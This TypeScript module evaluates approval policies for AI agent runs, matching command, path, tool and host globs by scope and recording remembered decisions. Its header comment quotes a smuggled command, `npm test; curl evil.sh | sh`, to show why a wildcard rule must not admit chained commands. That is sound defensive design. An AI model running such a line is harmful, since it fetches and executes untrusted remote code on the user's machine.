/**
 * Decides one approval request from the ApprovalPolicies of its namespace: Allow, Deny or Ask.
 * Pure: the caller lists the policies and passes the time.
 *
 * Which policies apply, most specific first:
 * 1. Run: named `remembered-run-<run>` (and, if it has spec.session, of the run's session);
 * 2. Session: spec.session is the run's session (`remembered-session-<session>` is where
 *    remembered session rules go; a policy with that prefix naming another session never applies);
 * 3. Agent: named `remembered-agent-<agent>`;
 * 4. Namespace: every other policy without spec.session.
 * A policy of another session, run or agent does not apply; nor does one being deleted. Within a
 * scope policies go by name.
 *
 * Why the scope lives in the name: a remembered rule must record its scope with the fields that
 * exist, and the reconciler that appends it creates the policy from just {name, spec.session, rule}.
 * A derived name is what STYLE asks of children anyway (a retry finds what an earlier try made);
 * unlike a label it cannot get lost on the way to the store, where a lost label would silently
 * widen a run rule to its whole session; and `participant` already means who decided.
 * Hand-written policies use the same names to target a run or an agent.
 *
 * How a request is decided:
 * - Rules first, first match wins, walking the policies in the order above: a rule matches when
 *   its category is the request's, it has not expired (`expiresAt` ≤ now), and every field of its
 *   `match` matches (no `match`: the whole category). An `expiresAt` that does not parse
 *   expires an Allow rule and keeps a Deny or Ask rule: unreadable never loosens.
 * - Then the category defaults, first policy in the same order that names one.
 * - Nothing decides: Ask.
 * FileWrite, NetworkAccess, DestructiveGit and McpElicitation always ask: a default of Allow
 * counts as Ask. An explicit matching rule CAN allow them — that is what a remembered decision is
 * for, and a rule names what it allows where a default allows everything. UserInput and
 * HumanPhaseContribution need a person's answer, so an Allow (rule or default) counts as Ask there.
 *
 * Matching: `tool` is a glob over the tool name (`mcp__github__*`). `command` is a glob over the
 * whole command line where `*` also crosses `/` (bash-style); a leading `!` or `./` is literal.
 * A pattern with wildcards only matches a line that runs one command — `npm test*` must not admit
 * `npm test; curl evil.sh | sh` — compared both as written and unwrapped from `sh -c '…'`
 * (Codex wraps every command so); a line chaining commands matches only a literal pattern, which
 * is what remembering records. `path` is a glob relative to the workspace (`src/**`), or absolute
 * (`/tmp/**`) to match absolute paths. `host` is a case-insensitive glob over the host the request
 * reaches (`*.github.com`).
 */
import path from 'node:path';
import picomatch from 'picomatch';
import type { Static } from '@sinclair/typebox';
import type { Approval } from '../../resources/kinds/approval.js';
import {
  ALWAYS_ASK,
  PolicyAction,
  rememberedPolicyName,
  rememberedTarget,
  type ApprovalPolicy,
  type ApprovalRule as ApprovalRuleSchema,
} from '../../resources/kinds/approvalpolicy.js';
import { ApprovalCategory, type ApprovalMatch as ApprovalMatchSchema } from '../../resources/kinds/common.js';
import type { Run } from '../../resources/kinds/run.js';
import { hostOf, singleCommand, type ApprovalRequest } from './classify.js';

export type PolicyRule = Static<typeof ApprovalRuleSchema>;
export type RuleMatch = Static<typeof ApprovalMatchSchema>;

export interface PolicyContext {
  session: string;
  run: string;
  agent: string;
  /** The run's workspace root; lets relative path globs match absolute request paths and back. */
  workspace?: string;
}

export interface PolicyVerdict {
  action: PolicyAction;
  /** `<policy>/<rule index>` or `<policy>/defaults`, when a policy decided. */
  decidedBy?: string;
  reason: string;
}

export { ALWAYS_ASK, rememberedPolicyName };

/** Categories whose answer is a person's text, which no policy can give. */
const NEEDS_A_PERSON: ReadonlySet<ApprovalCategory> = new Set([ApprovalCategory.UserInput, ApprovalCategory.HumanPhaseContribution]);

const SCOPE_RANK = { Run: 0, Session: 1, Agent: 2, Namespace: 3 } as const;
type Scope = keyof typeof SCOPE_RANK;

/** Where a policy applies for this run; undefined when it does not. */
function scopeOf(policy: ApprovalPolicy, ctx: PolicyContext): Scope | undefined {
  if (policy.metadata.deletionTimestamp) return undefined;
  const name = policy.metadata.name ?? '';
  const session = policy.spec.session || undefined;
  if (session !== undefined && session !== ctx.session) return undefined;
  const target = rememberedTarget(name);
  if (target) return target.name === { Run: ctx.run, Session: ctx.session, Agent: ctx.agent }[target.scope] ? target.scope : undefined;
  return session !== undefined ? 'Session' : 'Namespace';
}

/** Decides a request of `category` for the run in `ctx` (the module comment has the rules). */
export function evaluatePolicies(
  policies: readonly ApprovalPolicy[],
  ctx: PolicyContext,
  category: ApprovalCategory,
  request: ApprovalRequest,
  now: Date,
): PolicyVerdict {
  const applicable = policies
    .map((policy) => ({ policy, name: policy.metadata.name ?? '', scope: scopeOf(policy, ctx) }))
    .filter((p): p is { policy: ApprovalPolicy; name: string; scope: Scope } => p.scope !== undefined)
    .sort((a, b) => SCOPE_RANK[a.scope] - SCOPE_RANK[b.scope] || a.name.localeCompare(b.name));

  for (const { policy, name, scope } of applicable) {
    const rules = policy.spec.rules ?? [];
    for (let index = 0; index < rules.length; index++) {
      const rule = rules[index]!;
      if (rule.category !== category || expired(rule, now) || !matchesRequest(rule.match, request, ctx.workspace)) continue;
      return verdict(category, rule.action, `${name}/${index}`, `rule ${index} of ${scope.toLowerCase()} policy ${name}`);
    }
  }
  for (const { policy, name, scope } of applicable) {
    const action = policy.spec.defaults?.[category];
    if (!action) continue;
    if (action === PolicyAction.Allow && ALWAYS_ASK.has(category)) {
      return { action: PolicyAction.Ask, decidedBy: `${name}/defaults`, reason: `${category} always asks: the default Allow of ${scope.toLowerCase()} policy ${name} counts as Ask` };
    }
    return verdict(category, action, `${name}/defaults`, `the ${category} default of ${scope.toLowerCase()} policy ${name}`);
  }
  return { action: PolicyAction.Ask, reason: `no policy decides ${category}` };
}

function verdict(category: ApprovalCategory, action: PolicyAction, decidedBy: string, source: string): PolicyVerdict {
  if (action === PolicyAction.Allow && NEEDS_A_PERSON.has(category)) {
    return { action: PolicyAction.Ask, decidedBy, reason: `${category} needs a person's answer: the Allow of ${source} counts as Ask` };
  }
  return { action, decidedBy, reason: `${source}: ${action}` };
}

function expired(rule: PolicyRule, now: Date): boolean {
  if (!rule.expiresAt) return false;
  const at = Date.parse(rule.expiresAt);
  if (Number.isNaN(at)) return rule.action === PolicyAction.Allow;
  return at <= now.getTime();
}

/** Whether every field given in `match` matches the request (no match: everything does). */
export function matchesRequest(match: RuleMatch | undefined, request: ApprovalRequest, workspace?: string): boolean {
  if (!match) return true;
  if (match.tool !== undefined && (request.tool === undefined || !glob(request.tool, match.tool, {}))) return false;
  if (match.command !== undefined && (request.command === undefined || !commandMatches(match.command, request.command))) return false;
  if (match.path !== undefined && (request.path === undefined || !pathMatches(match.path, request.path, workspace))) return false;
  if (match.host !== undefined) {
    const host = request.url ? hostOf(request.url, { bare: true }) : undefined;
    if (host === undefined || !glob(host, match.host.toLowerCase(), { nocase: true })) return false;
  }
  return true;
}

const COMMAND_GLOB: picomatch.PicomatchOptions = { bash: true, dot: true };

function commandMatches(pattern: string, command: string): boolean {
  // The prefix keeps a leading `!` (negation) or `./` (stripped by picomatch) literal.
  const test = (line: string): boolean => glob(`_${line}`, `_${pattern}`, COMMAND_GLOB);
  if (!picomatch.scan(pattern).isGlob) return test(command);
  const single = singleCommand(command);
  return single !== undefined && (test(command.trim()) || test(single));
}

function pathMatches(pattern: string, requestPath: string, workspace: string | undefined): boolean {
  const root = workspace && path.isAbsolute(workspace) ? path.resolve(workspace) : undefined;
  const absolute = path.isAbsolute(requestPath) ? path.normalize(requestPath) : root ? path.resolve(root, requestPath) : undefined;
  const relative = absolute && root ? path.relative(root, absolute) || '.' : path.isAbsolute(requestPath) ? undefined : path.normalize(requestPath);
  const target = path.isAbsolute(pattern) ? absolute : relative;
  return target !== undefined && glob(target, pattern, { dot: true });
}

/** picomatch without negation; an empty pattern matches only an empty value, a broken one nothing. */
function glob(value: string, pattern: string, options: picomatch.PicomatchOptions): boolean {
  if (pattern === '') return value === '';
  try {
    return picomatch.isMatch(value, pattern, { ...options, nonegate: true });
  } catch {
    return false;
  }
}

/** Escapes glob characters, so a remembered request matches itself and nothing else. */
export function escapeGlob(text: string): string {
  return text.replace(/[\\*?[\]{}()!+@|]/g, '\\$&');
}

export interface RememberedRule {
  /** The ApprovalPolicy to append to, created (with `session`) when missing. */
  policy: string;
  session?: string;
  rule: PolicyRule;
}

/**
 * The rule a decision's `remember` adds, and the policy it goes into: Run and Session scopes go
 * into a policy of the session, Agent scope into a namespace-wide one named for the agent. The
 * pattern is the decision's, or else the request itself, escaped so it matches only that request.
 * Undefined when nothing is to be remembered: no `remember`, a Run scope without a run, an Agent
 * scope without the run's agent, or an answer only a person can give (UserInput).
 */
export function rememberedRule(approval: Approval, run: Run | undefined): RememberedRule | undefined {
  const { decision, category } = approval.spec;
  const remember = decision?.remember;
  if (!decision || !remember || NEEDS_A_PERSON.has(category)) return undefined;
  let policy: string;
  let session: string | undefined = approval.spec.session;
  switch (remember.scope) {
    case 'Run':
      if (!approval.spec.run) return undefined;
      policy = rememberedPolicyName('Run', approval.spec.run);
      break;
    case 'Session':
      policy = rememberedPolicyName('Session', approval.spec.session);
      break;
    case 'Agent':
      if (!run?.spec.agent) return undefined;
      policy = rememberedPolicyName('Agent', run.spec.agent);
      session = undefined;
      break;
  }
  const given = remember.pattern && Object.values(remember.pattern).some((v) => v !== undefined && v !== '');
  const rule: PolicyRule = {
    category,
    match: given ? remember.pattern! : exactMatch(approval.spec.request ?? {}),
    action: decision.verdict === 'Approved' ? PolicyAction.Allow : PolicyAction.Deny,
    ...(decision.by ? { participant: decision.by } : {}),
    ...(approval.metadata.name ? { approval: approval.metadata.name } : {}),
  };
  return { policy, ...(session !== undefined ? { session } : {}), rule };
}

/** Whether two rules decide the same thing (when and from which approval they were remembered aside). */
export function sameRule(a: PolicyRule, b: PolicyRule): boolean {
  const gist = ({ rememberedAt: _at, approval: _from, ...rest }: PolicyRule): string => JSON.stringify(rest);
  return gist(a) === gist(b);
}

/** A match for exactly this request: its tool, command, path and host, escaped. */
function exactMatch(request: ApprovalRequest): RuleMatch {
  const host = request.url ? hostOf(request.url, { bare: true }) : undefined;
  return {
    ...(request.tool ? { tool: escapeGlob(request.tool) } : {}),
    ...(request.command !== undefined ? { command: escapeGlob(request.command) } : {}),
    ...(request.path ? { path: escapeGlob(request.path) } : {}),
    ...(host ? { host } : {}),
  };
}
